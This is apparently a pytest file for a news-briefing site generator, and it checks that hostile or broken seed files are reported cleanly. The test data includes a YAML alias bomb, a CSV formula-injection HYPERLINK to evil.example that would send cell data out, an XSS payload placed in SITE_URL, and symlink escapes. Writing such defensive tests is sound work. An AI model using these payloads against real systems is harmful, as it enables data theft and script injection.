"""Hostile and broken files: each gives a clear problem (or is handled), never a traceback."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
import yaml
from bs4 import BeautifulSoup, Tag

from generator.build.pipeline import build_pages, check
from tests.conftest import MINI, copy_corpus

BOMB = """outlets:
  - id: wire-one
    name: Wire One
    kind: wire-agency
lol: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
lol2: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
lol3: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
lol4: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
lol5: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]
lol6: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]
lol7: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]
lol8: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]
lol9: &i [*h, *h, *h, *h, *h, *h, *h, *h, *h]
"""


def _rules(corpus: Path) -> dict[str, str]:
    return {f"{p.path}:{p.line}:{p.column}": p.rule for p in check(corpus, corpus).problems}


def test_billion_laughs_is_refused_at_the_first_alias(tmp_path: Path) -> None:
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    outlets = (MINI / "outlets.yaml").read_text(encoding="utf-8")  # the real entries, then the bomb
    (corpus / "outlets.yaml").write_text(outlets + BOMB, encoding="utf-8")
    assert _rules(corpus) == {f"outlets.yaml:{outlets.count(chr(10)) + 6}:11": "yaml-syntax"}


def test_a_number_of_thousands_of_digits_is_described_not_printed(tmp_path: Path) -> None:
    """A hexadecimal number of 4,000 digits where a name is expected: an error that gives its
    length (Python refuses to write out an integer of more than 4,300 digits), not a traceback."""
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    parties = (corpus / "parties.yaml").read_text(encoding="utf-8")
    first = re.search(r"^( +name: ).*$", parties, re.M)
    assert first is not None
    (corpus / "parties.yaml").write_text(parties.replace(first[0], first[1] + "0x" + "f" * 4000, 1), encoding="utf-8")
    problems = check(corpus, corpus).problems
    assert [(p.rule, p.line) for p in problems] == [("invalid-value", parties[: first.start()].count("\n") + 1)]
    assert "a number of some 4,817 digits" in problems[0].message
    locations = (corpus / "locations.yaml").read_text(encoding="utf-8")
    latitude = re.search(r"lat: [-0-9.]+", locations)
    assert latitude is not None
    (corpus / "locations.yaml").write_text(locations.replace(latitude[0], "lat: 0x" + "f" * 4000, 1), encoding="utf-8")
    found = {p.path: p.message for p in check(corpus, corpus).problems}
    assert "is a number of some 4,817 digits, too large to be read as a number" in found["locations.yaml"]


def test_a_50_mb_file_is_refused_without_being_read(tmp_path: Path) -> None:
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    with (corpus / "parties.yaml").open("wb") as big:
        big.truncate(50 * 1024 * 1024)
    problems = check(corpus, corpus).problems
    assert [(p.path, p.rule) for p in problems] == [("parties.yaml", "file-too-large")]
    assert "50.0 MB" in problems[0].message


def test_a_huge_text_is_refused_too(tmp_path: Path) -> None:
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    with (corpus / "documents" / "ridge-clash.txt").open("ab") as text:
        text.write(b"x" * (11 * 1024 * 1024))
    assert _rules(corpus) == {"documents/ridge-clash.txt:1:1": "file-too-large"}


def test_bom_and_crlf_are_handled_and_quotes_keep_their_exact_span(tmp_path: Path) -> None:
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    for path in [
        corpus / "parties.yaml",
        corpus / "documents" / "ridge-clash.yaml",
        corpus / "documents" / "ridge-clash.txt",
    ]:
        data = path.read_bytes().replace(b"\n", b"\r\n")
        path.write_bytes(b"\xef\xbb\xbf" + data)
    built = build_pages(corpus, corpus)
    assert built.problems == []
    document = built.checked.corpus.documents["ridge-clash"]
    start, end = document.claim_spans["beta-self-defence"]
    assert document.text[start:end] == "Beta said its troops acted in self-defence"
    assert not document.text.startswith("\ufeff")


def test_a_symlink_cannot_read_outside_the_seed_folder(tmp_path: Path) -> None:
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    secret = tmp_path / "secret.txt"
    secret.write_text("Alpha and Beta traded fire. Beta said its troops acted in self-defence.\n", encoding="utf-8")
    text = corpus / "documents" / "ridge-clash.txt"
    text.unlink()
    text.symlink_to(secret)
    problems = check(corpus, corpus).problems
    assert ("documents/ridge-clash.txt", "unsafe-path") in {(p.path, p.rule) for p in problems}


def test_a_hard_linked_text_is_the_file_itself_and_git_cannot_carry_the_link(tmp_path: Path) -> None:
    """A hard link is not refused (a contributor's ``cp -l`` copy is a file like any other): it is
    the file itself, what the work tree shows is what is read, and git stores its bytes, so a
    clone (a pull request, CI) holds a plain file; a symbolic link, which git does carry, is refused."""
    import subprocess

    corpus = copy_corpus(MINI, tmp_path / "seeds")
    elsewhere = tmp_path / "elsewhere.txt"
    text = corpus / "documents" / "ridge-clash.txt"
    elsewhere.write_bytes(text.read_bytes())
    text.unlink()
    os.link(elsewhere, text)
    assert text.stat().st_nlink == 2
    assert check(corpus, corpus).problems == []
    git = ["git", "-c", "user.name=x", "-c", "user.email=x@example.org", "-c", "init.defaultBranch=main"]
    subprocess.run([*git, "init", "-q", str(corpus)], check=True)
    subprocess.run([*git, "-C", str(corpus), "add", "-A"], check=True)
    subprocess.run([*git, "-C", str(corpus), "commit", "-q", "-m", "seed"], check=True)
    clone = tmp_path / "clone"
    subprocess.run([*git, "clone", "-q", "--no-local", str(corpus), str(clone)], check=True)
    cloned = clone / "documents" / "ridge-clash.txt"
    assert cloned.stat().st_nlink == 1 and cloned.read_bytes() == elsewhere.read_bytes()


def test_a_seed_folder_that_is_a_link_is_not_followed(tmp_path: Path) -> None:
    """``seeds -> /`` (or to a folder anywhere): one error, and nothing of the folder it
    points to is read or listed."""
    real = copy_corpus(MINI, tmp_path / "real")
    for target, name in ((real, "seeds"), (Path("/"), "root")):
        link = tmp_path / name
        link.symlink_to(target, target_is_directory=True)
        problems = check(link, tmp_path).problems
        assert [(p.rule, p.message) for p in problems] == [
            ("unsafe-path", f"the seed folder '{name}' is a symbolic link, and links are not followed")
        ]


def test_stray_and_orphan_files_are_reported_not_ignored(tmp_path: Path) -> None:
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    (corpus / "partys.yaml").write_text("parties: []\n", encoding="utf-8")
    (corpus / "documents" / "forgotten.txt").write_text("A text nobody described.\n", encoding="utf-8")
    (corpus / "topics" / "notes.md").write_text("# notes\n", encoding="utf-8")
    (corpus / "documents" / ".DS_Store").write_bytes(b"\0")
    problems = {(p.path, p.rule): p for p in check(corpus, corpus).problems}
    assert set(problems) == {
        ("partys.yaml", "unexpected-file"),
        ("documents/forgotten.txt", "orphan-text"),
        ("topics/notes.md", "unexpected-file"),
    }
    assert problems[("partys.yaml", "unexpected-file")].hint == "did you mean 'parties.yaml'?"


def test_invalid_utf8_in_a_text_names_the_byte(tmp_path: Path) -> None:
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    with (corpus / "documents" / "ridge-clash.txt").open("ab") as text:
        text.write(b"Caf\xe9\n")
    assert _rules(corpus) == {"documents/ridge-clash.txt:6:4": "encoding"}


def test_file_names_differing_only_in_case_are_reported(tmp_path: Path) -> None:
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    (corpus / "documents" / "Ridge-Clash.txt").write_text("Another text.\n", encoding="utf-8")
    rules = {(p.path, p.rule) for p in check(corpus, corpus).problems}
    assert ("documents/ridge-clash.txt", "case-collision") in rules or (
        "documents/Ridge-Clash.txt",
        "case-collision",
    ) in rules


def test_a_linked_folder_is_not_followed(tmp_path: Path) -> None:
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    outside = tmp_path / "elsewhere"
    (corpus / "documents").rename(outside)
    (corpus / "documents").symlink_to(outside)
    problems = check(corpus, corpus).problems
    assert [(p.path, p.rule) for p in problems] == [("documents", "unsafe-path")]


def test_a_folder_named_like_a_metadata_file_is_reported_once(tmp_path: Path) -> None:
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    (corpus / "documents" / "extra.yaml").mkdir()
    (corpus / "topics" / "more.yaml").mkdir()
    rules = {(p.path, p.rule) for p in check(corpus, corpus).problems}
    assert rules == {("documents/extra.yaml", "unexpected-file"), ("topics/more.yaml", "unexpected-file")}


def test_a_registry_that_is_a_folder_gives_one_problem(tmp_path: Path) -> None:
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    (corpus / "parties.yaml").unlink()
    (corpus / "parties.yaml").mkdir()
    assert [(p.path, p.rule) for p in check(corpus, corpus).problems] == [("parties.yaml", "unexpected-file")]


def test_a_pipe_is_refused_without_being_read(tmp_path: Path) -> None:
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    os.mkfifo(corpus / "topics" / "stuck.yaml")
    (corpus / "documents" / "ridge-clash.txt").unlink()
    os.mkfifo(corpus / "documents" / "ridge-clash.txt")
    rules = sorted((p.path, p.rule) for p in check(corpus, corpus).problems)
    assert rules == [("documents/ridge-clash.txt", "unexpected-file"), ("topics/stuck.yaml", "unexpected-file")]


def test_many_names_starting_with_digits_and_accents_make_one_page_each(tmp_path: Path) -> None:
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    names = [f"{prefix} party {n}" for n in range(120) for prefix in ("1st", "Éire", "Zulu")]
    extra = "".join(
        f"  - id: extra-{n}\n    name: {name}\n    kind: other\n    description: A party.\n"
        for n, name in enumerate(names)
    )
    with (corpus / "parties.yaml").open("a", encoding="utf-8") as registry:
        registry.write(extra)
    built = build_pages(corpus, corpus)
    assert built.problems == []
    paths = [page.path for page in built.pages]
    assert len(paths) == len(set(paths))
    assert sum(path.startswith("lists/parties-") for path in paths) >= 3


def _long_chain(corpus: Path, hops: int, drew_on: str) -> None:
    """The fixture document with ``hops`` outlets: each drawing on the one listed next
    (``next``), on every one listed before it (``all``), on the one before it alone
    (``previous``, a single line), or the last on all the others, each an original (``fan``)."""
    outlets = "".join(f"  - id: hop-{n}\n    name: Hop {n}\n    kind: news-website\n" for n in range(hops))
    with (corpus / "outlets.yaml").open("a", encoding="utf-8") as registry:
        registry.write(outlets)
    chain = []
    for n in range(hops):
        sources = {
            "next": [f"hop-{n + 1}"] if n + 1 < hops else [],
            "all": [f"hop-{m}" for m in range(n)],
            "previous": [f"hop-{n - 1}"] if n else [],
            "fan": [f"hop-{m}" for m in range(n)] if n == hops - 1 else [],
        }[drew_on]
        role = "original-reporting" if not sources else "republisher"
        chain.append(f"  - outlet: hop-{n}\n    role: {role}\n    drew_on: [{', '.join(sources)}]\n")
    held = f"hop-{hops - 1}"
    meta = corpus / "documents" / "ridge-clash.yaml"
    text = meta.read_text(encoding="utf-8")
    head, _, rest = text.partition("chain:\n")
    claims = rest[rest.index("claims:") :].replace("via: [wire-one]", f"via: [{held}]")
    claims = claims.replace("    claimant: beta\n", f"    claimant: beta\n    via: [{held}]\n")
    meta.write_text(
        head.replace("outlet: site-two", f"outlet: {held}") + "chain:\n" + "".join(chain) + claims, encoding="utf-8"
    )


def test_a_thousand_hops_drawing_the_wrong_way_are_reported_not_a_crash(tmp_path: Path) -> None:
    """Each hop draws on the one listed after it, so the walk for loops goes a thousand hops deep,
    and no hop leads to the copy held, which is listed last."""
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    _long_chain(corpus, 1000, "next")
    problems = check(corpus, corpus).problems
    assert {p.rule for p in problems} == {"unreachable-hop"} and len(problems) == 999


def test_a_thousand_hops_each_drawing_on_every_earlier_one_validate(tmp_path: Path) -> None:
    """The graph checks are linear in hops and edges (half a million edges here)."""
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    _long_chain(corpus, 1000, "all")
    assert check(corpus, corpus).problems == []


def test_a_lone_surrogate_is_a_syntax_problem_with_either_parser(tmp_path: Path, monkeypatch) -> None:
    from generator.load import yaml_reader

    for fast in (yaml_reader._FAST_LOADER, None):
        monkeypatch.setattr(yaml_reader, "_FAST_LOADER", fast)
        corpus = copy_corpus(MINI, tmp_path / f"seeds-{fast is None}")
        outlets = corpus / "outlets.yaml"
        outlets.write_text(
            outlets.read_text(encoding="utf-8").replace("name: Wire One", 'name: "Wire \\ud800One"'), encoding="utf-8"
        )
        rules = {(p.path, p.rule) for p in check(corpus, corpus).problems}
        assert rules == {("outlets.yaml", "yaml-syntax")}


def test_an_invalid_escape_is_reported_at_the_escape_with_either_parser(tmp_path: Path, monkeypatch) -> None:
    from generator.base.problems import Problems
    from generator.load import yaml_reader

    cases = [  # (value, line and column of the escape, what the message or hint says)
        (
            '"C:\\data\\x"',
            (1, 7),
            ["'\\d' in this double-quoted value is invalid", '("C:\\\\data\\\\x")', "'C:\\data\\x'"],
        ),
        ('"\\x4 and"', (1, 5), ["\\x takes 2 hexadecimal digits"]),
        ('"\\ud83d\\ude00"', (1, 5), ["half of a surrogate pair", "\\U0001F600"]),
        ('"say \\"hi\\" \\q"', (1, 16), ["'\\q'", '("say \\"hi\\" \\\\q")']),
        ('"two\n  lines \\q"', (2, 9), ["'\\q'", "single quotes"]),
        ('"\\U0010FFFF \\U00110000"', (1, 16), ["past the last Unicode character"]),
    ]
    for fast in (yaml_reader._FAST_LOADER, None):
        monkeypatch.setattr(yaml_reader, "_FAST_LOADER", fast)
        for value, (line, column), says in cases:
            problems = Problems(tmp_path)
            assert yaml_reader.parse_yaml(tmp_path / "x.yaml", f"a: {value}\n", problems) is None
            [problem] = problems.items()
            assert (problem.line, problem.column, problem.rule) == (line, column, "yaml-syntax"), (fast, value)
            for words in says:
                assert words in problem.message + " " + problem.hint, (fast, value, problem)
            assert "never closed" not in problem.message


def test_no_csv_cell_can_start_a_formula_whatever_the_spreadsheet_splits_on(tmp_path: Path) -> None:
    import csv
    import io

    corpus = copy_corpus(MINI, tmp_path / "seeds")
    document = corpus / "documents" / "ridge-clash.yaml"
    document.write_text(
        document.read_text(encoding="utf-8")
        .replace(
            "paraphrase: Alpha's government says two soldiers were hurt.",
            "paraphrase: 'Two hurt;=HYPERLINK(\"http://evil.example/?\"&A1),+1\t@SUM(A1)'",
        )
        .replace("figure: {value: 2,", "figure: {value: -3,"),
        encoding="utf-8",
    )
    parties = corpus / "parties.yaml"
    parties.write_text(
        parties.read_text(encoding="utf-8").replace(
            "aliases: [government in Alphaville]", 'aliases: [government in Alphaville, "-Alphaville cabinet"]'
        ),
        encoding="utf-8",
    )
    built = build_pages(corpus, corpus)
    assert built.problems == []
    tables = {p.path: p.text for p in built.pages if p.path.endswith(".csv")}
    assert len(tables) == 7
    for text in tables.values():
        cells = [
            cell
            for separator in (",", ";", "\t")  # what spreadsheets split on, by locale or by guess
            for row in csv.reader(io.StringIO(text), delimiter=separator)
            for cell in row
        ]
        cells += re.split(r"[,;\t\r\n]", text)  # and a spreadsheet that honours no quotes at all
        for cell in cells:
            if cell.lstrip(' "')[:1] in ("=", "+", "-", "@"):
                float(cell)  # only a number may start so: it is one (written bare)
    claims = list(csv.DictReader(io.StringIO(tables["data/claims.csv"])))
    hurt = next(row for row in claims if row["id"] == "alpha-two-hurt")
    assert hurt["paraphrase"] == "Two hurt;'=HYPERLINK(\"http://evil.example/?\"&A1),'+1\t'@SUM(A1)"
    assert hurt["figure_value"] == "-3.0" and ",-3.0," in tables["data/claims.csv"]  # a number, written bare
    assert '"government in Alphaville; \'-Alphaville cabinet"' in tables["data/parties.csv"]


def test_an_address_in_capitals_is_published_in_lowercase(tmp_path: Path) -> None:
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    outlets = corpus / "outlets.yaml"
    outlets.write_text(
        outlets.read_text(encoding="utf-8").replace("https://wire.example.org/", "HTTPS://wire.example.org/"),
        encoding="utf-8",
    )
    built = build_pages(corpus, corpus)
    assert built.problems == []
    page = next(p for p in built.pages if p.path == "outlets/wire-one.md")
    assert 'href="https://wire.example.org/"' in page.text


def test_prose_headings_of_level_one_and_two_stay_text_however_written() -> None:
    from generator.render.markup import prose

    for source in ("Title\n=====", "Title\n-----\n\nmore", "> # Quoted", "- ## Listed", "# Hash", "## Hash"):
        assert not re.search(r"<h[12]", prose(source)), source
    assert "<h3>Kept</h3>" in prose("### Kept")


def test_every_free_text_field_given_a_megabyte_finishes_with_a_problem(tmp_path: Path) -> None:
    """Each field that is scanned (names, descriptions, notes, prose, quotes) has a cap that is
    reported; nothing is quadratic below it. The benchmark measures the time."""
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    megabyte = ("word " * 20 + "\n") * 10_000  # ~1 MB, many lines: the worst case for a line-based scan
    document = corpus / "documents" / "ridge-clash.yaml"
    data = yaml.safe_load(document.read_text(encoding="utf-8"))
    data["note"] = megabyte
    data["summary"] = megabyte
    data["claims"][0]["quote"] = megabyte
    data["claims"][1]["note"] = megabyte
    document.write_text(yaml.safe_dump(data), encoding="utf-8")
    problems = check(corpus, corpus).problems
    capped = [p for p in problems if "at most" in p.message]
    assert len(capped) == 4, [p.format_text() for p in problems]


def test_a_paragraph_longer_than_the_cap_is_refused_in_every_markdown_field(tmp_path: Path) -> None:
    """The Markdown converter reads a paragraph's inline markup in time that grows faster than
    its length (100,000 backslashes took 15 s): a paragraph is capped, so a field's time is
    linear. Paragraphs under the cap, any number of them, are accepted."""
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    long = "\\\\" * 3_000  # 6,000 characters in one paragraph
    short = "\n\n".join(["\\\\ word " * 400] * 20)  # 20 paragraphs of 3,600
    document = corpus / "documents" / "ridge-clash.yaml"
    data = yaml.safe_load(document.read_text(encoding="utf-8"))
    data["note"] = long
    data["claims"][0]["note"] = f"- item\n- {long}"
    data["claims"][1]["note"] = short
    document.write_text(yaml.safe_dump(data), encoding="utf-8")
    messages = [p.message for p in check(corpus, corpus).problems]
    assert len(messages) == 2 and all(re.search(r"a paragraph of 6,00\d characters", m) for m in messages), messages


def test_a_site_url_with_markup_stops_the_build_before_any_page_is_written(tmp_path: Path) -> None:
    """SITE_URL comes from outside (the Pages workflow), and the theme writes it into every
    page unescaped: one with a quote or an angle bracket is refused, saying what to write."""
    import subprocess
    import sys

    from generator.adapter.config import SITE_URL as _SITE_URL
    from tests.conftest import ROOT, mkdocs_config

    config = mkdocs_config(MINI, tmp_path / "build")
    hostile = 'https://example.org/"><img src=x onerror=alert(1)>'
    result = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--strict", "--config-file", str(config)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env={"NO_MKDOCS_2_WARNING": "1", "PATH": "/usr/bin:/bin", "SITE_URL": hostile},
    )
    assert result.returncode != 0
    assert "is not a plain http(s) address" in result.stdout + result.stderr
    assert not (tmp_path / "build" / "site").exists()
    for written in ("https://owner.github.io/briefings/", "http://127.0.0.1:8000/", "https://example.org"):
        assert _SITE_URL.fullmatch(written), written
    for refused in (hostile, "javascript:alert(1)", "https://example.org/a b", "https://example.org/'x", "//host/"):
        assert not _SITE_URL.fullmatch(refused), refused


def _chained(corpus: Path, length: int) -> None:
    """``length`` places, each within the one before (the first within Alphaville), and
    ``length`` parties, each belonging to the one before (the first to Alpha)."""
    places = "".join(
        f"  - id: chain-place-{n}\n    name: Chain place {n}\n    kind: village\n"
        f"    coordinates: {{lat: 40.5, lon: 45.25}}\n"
        f"    parents: [{f'chain-place-{n - 1}' if n else 'alphaville'}]\n    description: A place.\n"
        for n in range(length)
    )
    parties = "".join(
        f"  - id: chain-party-{n}\n    name: Chain party {n}\n    kind: other\n"
        f"    affiliation: {f'chain-party-{n - 1}' if n else 'alpha'}\n    description: A party.\n"
        for n in range(length)
    )
    with (corpus / "locations.yaml").open("a", encoding="utf-8") as registry:
        registry.write(places)
    with (corpus / "parties.yaml").open("a", encoding="utf-8") as registry:
        registry.write(parties)


def test_a_long_chain_of_places_or_parties_costs_each_page_the_same(tmp_path: Path) -> None:
    """A page names its own parent (or affiliation) and a few places or parties above it,
    and counts the rest, so that the deepest page of a chain of 300 links no more of the
    chain, and is no larger, than one near the top."""
    from generator.render.entity_pages import render_location, render_party
    from tests.conftest import checked_model

    corpus = copy_corpus(MINI, tmp_path / "seeds")
    _chained(corpus, 300)
    site = checked_model(corpus, corpus)
    pages = {
        (kind, n): render(site, table[f"chain-{kind}-{n}"])[0].markdown
        for kind, render, table in (
            ("place", render_location, site.corpus.locations),
            ("party", render_party, site.corpus.parties),
        )
        for n in (10, 299)
    }
    for kind in ("place", "party"):
        linked = set(re.findall(rf'href="[^"]*chain-{kind}-(\d+)', pages[kind, 299])) - {"299"}
        assert len(linked) <= 5, sorted(linked)
        assert len(pages[kind, 299]) < len(pages[kind, 10]) + 100  # a digit more in a few names
    assert "and 295 more" in pages["place", 299]  # 299 places and Alphaville above: 4 named, 1 the parent
    assert "296 more" in pages["party", 299]  # 299 parties and Alpha above: the nearest 3 and the top named
    assert site.side_of("chain-party-299") == "alpha"


def test_a_loop_at_the_end_of_a_long_chain_is_reported_once(tmp_path: Path) -> None:
    """A loop of 300 places (or parties) is found in one walk: one problem for the places,
    at the first place of the loop, and one for each party of the loop."""
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    _chained(corpus, 300)
    for registry, old, new in (
        ("locations.yaml", "parents: [alphaville]\n    description: A place.", "parents: [chain-place-299]"),
        ("parties.yaml", "affiliation: alpha\n    description: A party.", "affiliation: chain-party-299"),
    ):
        text = (corpus / registry).read_text(encoding="utf-8")
        assert text.count(old) == 1
        (corpus / registry).write_text(text.replace(old, new + "\n    description: A loop."), encoding="utf-8")
    problems = [p for p in check(corpus, corpus).problems if p.rule == "cycle"]
    places = [p for p in problems if p.path.endswith("locations.yaml")]
    assert len(places) == 1 and "leads back to 'chain-place-0'" in places[0].message
    assert len(problems) - len(places) == 300


def test_a_long_chain_of_places_each_with_two_parents_is_counted_up_to_a_bound(tmp_path: Path) -> None:
    """Where a place has several parents, the places above it are walked, not taken from one
    parent: the walk stops at ``ABOVE_COUNTED`` and the page says "at least"."""
    from generator.model.site import ABOVE_COUNTED
    from generator.render.entity_pages import render_location
    from tests.conftest import checked_model

    corpus = copy_corpus(MINI, tmp_path / "seeds")
    _chained(corpus, 300)
    registry = corpus / "locations.yaml"
    text = registry.read_text(encoding="utf-8")
    registry.write_text(re.sub(r"parents: \[(chain-place-\d+)\]", r"parents: [\1, alphaville]", text), encoding="utf-8")
    site = checked_model(corpus, corpus)
    page = render_location(site, site.corpus.locations["chain-place-299"])[0].markdown
    linked = set(re.findall(r'href="\.\./(chain-place-\d+|alphaville)/"', page)) - {"chain-place-299"}
    assert linked == {"alphaville", *(f"chain-place-{n}" for n in range(294, 299))}, sorted(linked)
    assert f"and at least {ABOVE_COUNTED - 6} more" in page
    assert site.places_above["chain-place-5"].count == 6 and site.places_above["chain-place-5"].exact


def _read(page: str) -> BeautifulSoup:
    return BeautifulSoup(page, "html.parser")


def _words(tag: Tag) -> str:
    """The text as read: blocks and line breaks as spaces, no space before punctuation."""
    return re.sub(r"\( ", "(", re.sub(r" ([,.;:)])", r"\1", " ".join(tag.get_text(" ").split())))


def _drawn(graph: Tag) -> list[list[tuple[str, list[str]]] | str]:
    """A source graph as drawn, layer by layer from the top: each layer its boxes, a name and
    the names it drew on ("and 2,491 more" is a box of its own), or the words of a gap."""
    layers: list[list[tuple[str, list[str]]] | str] = []
    for layer in graph.select("ol > li.source-graph__layer"):
        if "source-graph__gap" in layer["class"]:
            layers.append(_words(layer))
        else:
            boxes = layer.select("li.source-graph__node")
            names = [box.select_one(".source-graph__name").get_text() for box in boxes]
            drew = [[f.get_text() for f in box.select(".source-graph__from")] for box in boxes]
            layers.append(list(zip(names, drew, strict=True)))
    return layers


def _in_one_piece(layers: list[list[tuple[str, list[str]]] | str]) -> bool:
    """Whether every box drawn is joined to every other by the steps drawn, a gap ("… 2,488
    hops not drawn …") joining the layers on either side of it."""
    joined: dict[str, set[str]] = {}
    for above, layer, below in zip([[], *layers[:-1]], layers, [*layers[1:], []], strict=True):
        if isinstance(layer, str):  # a gap: joined to the boxes above and below it
            joined[layer] = {name for near in (above, below) if not isinstance(near, str) for name, _ in near}
            continue
        for name, drew in layer:
            if not name.startswith("and "):
                joined.setdefault(name, set()).update(drew)
    names = set(joined)
    for name, near in list(joined.items()):
        for other in near & names:
            joined[other].add(name)
    reached, frontier = set(), [next(iter(names))]
    while frontier:
        name = frontier.pop()
        if name not in reached:
            reached.add(name)
            frontier += [n for n in joined[name] if n in names]
    return reached == names


@pytest.fixture(scope="module")
def line_of_hops(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """The pages of the fixture corpus whose document came through a single line of 2,500 hops."""
    corpus = copy_corpus(MINI, tmp_path_factory.mktemp("line") / "seeds")
    _long_chain(corpus, 2500, "previous")
    built = build_pages(corpus, corpus)
    assert built.problems == []
    return {page.path: page.text for page in built.pages}


def test_a_chain_of_thousands_of_hops_is_drawn_cut_in_one_piece_and_says_so(line_of_hops: dict[str, str]) -> None:
    """The document page draws the first and the last layers of a line of 2,500 hops, one line
    between them counts the hops left out, a note says the graph is cut and where every hop is,
    the list of hops gives the same hops, the counts are written as readers write them, and
    the page stays small (it was 1.7 MB, a graph of 2,500 layers and no note)."""
    document = line_of_hops["documents/ridge-clash.md"]
    assert len(document.encode()) < 60_000
    soup = _read(document)
    glance = _words(soup.select_one(".abstract"))
    assert "2,500 hops from the original to the copy held, 2,500 of them unverified" in glance
    layers = _drawn(soup.select_one("div.source-graph"))
    boxes = [name for layer in layers if not isinstance(layer, str) for name, _ in layer]
    gap = next(layer for layer in layers if isinstance(layer, str))
    assert gap == f"… {2500 - len(boxes):,} hops not drawn …" and len(boxes) <= 40
    assert layers[0] == [("Hop 0", [])] and layers[-1] == [("Hop 2499", ["Hop 2498"])]
    assert _in_one_piece(layers)
    note = _words(soup.find("h2", id="source-chain").find_next_sibling("p"))
    assert note.startswith(f"The graph is cut: it draws {len(boxes)} of the 2,500 hops: the first 6 and the last 6")
    assert note.endswith("every hop, with the hops it drew on, is in chain_hops.csv.")
    listed = [li.get("id") for li in soup.select("li[id^=hop-]")]
    assert listed == [f"hop-{n}" for n in (*range(1, 7), *range(2495, 2501))]
    assert "… 2,488 hops not drawn or listed here: see chain_hops.csv …" in _words(soup)


def test_the_funnel_of_a_chain_of_thousands_of_hops_reaches_both_ends_and_says_it_is_cut(
    line_of_hops: dict[str, str],
) -> None:
    """The sources page's funnel draws one piece from the original to the copy held, the hops
    between counted, and says it is cut (it drew 40 of 2,499 steps as four pieces that
    reached neither end, and said nothing)."""
    sources = line_of_hops["sources/index.md"]
    assert len(sources.encode()) < 60_000
    soup = _read(sources)
    assert "Across the site: 2,500 hops, 2,500 unverified." in _words(soup)
    assert "Hop 0 → Hop 1 → Hop 2 → … 2,495 more … → Hop 2498 → Hop 2499" in _words(soup.find("table"))
    graphs = soup.select("div.source-graph")
    layers = _drawn(graphs[0])
    assert len(graphs) == 1 and _in_one_piece(layers)
    assert not _in_one_piece([[("Hop 1000", [])], [("Hop 1001", ["Hop 1000"])], [("Hop 10", [])]])  # as it was
    assert layers[0] == [("Hop 0", [])] and layers[-1] == [("Hop 2499", ["Hop 2498"])]  # the original, the copy
    assert "… 2,488 outlets not drawn …" in layers
    note = _words(soup.find("h2", id="funnel").find_next_sibling("p"))
    assert note.startswith("The funnel is cut. The graph draws 12 of the 2,500 outlets: the first 6 and the last 6")
    assert "The 100 outlets that carried the most texts, of 2,500" in _words(soup)


def test_a_copy_drawing_on_thousands_of_originals_names_a_few_and_counts_the_rest(tmp_path: Path) -> None:
    """A copy drawing on 2,499 originals: its box, its hop and its outlet's page name eight and
    count the rest, the layer of originals draws eight and a box "and 2,491 more", and the
    page says how long the longest path is rather than "2,500 hops from the originals"."""
    corpus = copy_corpus(MINI, tmp_path / "seeds")
    _long_chain(corpus, 2500, "fan")
    built = build_pages(corpus, corpus)
    assert built.problems == []
    pages = {page.path: page.text for page in built.pages}
    assert all(len(pages[path].encode()) < 60_000 for path in ("documents/ridge-clash.md", "sources/index.md"))
    assert len(pages["outlets/hop-2499.md"].encode()) < 60_000

    soup = _read(pages["documents/ridge-clash.md"])
    glance = _words(soup.select_one(".abstract"))
    eight = ", ".join(f"Hop {n}" for n in range(8)) + " and 2,491 more"
    longest = "the longest path from an original to the copy held is 2 hops long"
    assert f"2,500 hops, 2,500 of them unverified; {longest}" in glance
    assert f"2,499 independent sources ({eight})" in glance
    independent = _words(soup.find("th", string="Independent sources").find_next_sibling("td"))
    assert independent.startswith("2,499: Hop 0, Hop 1,") and "Hop 7 and 2,491 more (" in independent
    chain = _words(soup.find("th", string="Source chain").find_next_sibling("td"))
    assert chain == "Hop 0 + Hop 1 + Hop 2 + 2,496 more → Hop 2499 (2,500 hops, 2,500 unverified)"
    layers = _drawn(soup.select_one("div.source-graph"))
    originals = [f"Hop {n}" for n in range(8)]
    assert layers == [[*((name, []) for name in originals), ("and 2,491 more", [])], [("Hop 2499", originals)]]
    assert _words(soup.select_one(".source-graph__drew")) == "drew on " + ", ".join(originals) + " and 2,491 more"
    assert _in_one_piece(layers)
    assert "The graph is cut: it draws 9 of the 2,500 hops: at most 8 in a layer." in _words(soup)
    copy = soup.select("li[id^=hop-]")[-1]
    assert copy["id"] == "hop-2500" and f"Drew on {eight}" in _words(copy)
    assert f"drew on {eight}" in _words(_read(pages["outlets/hop-2499.md"]))
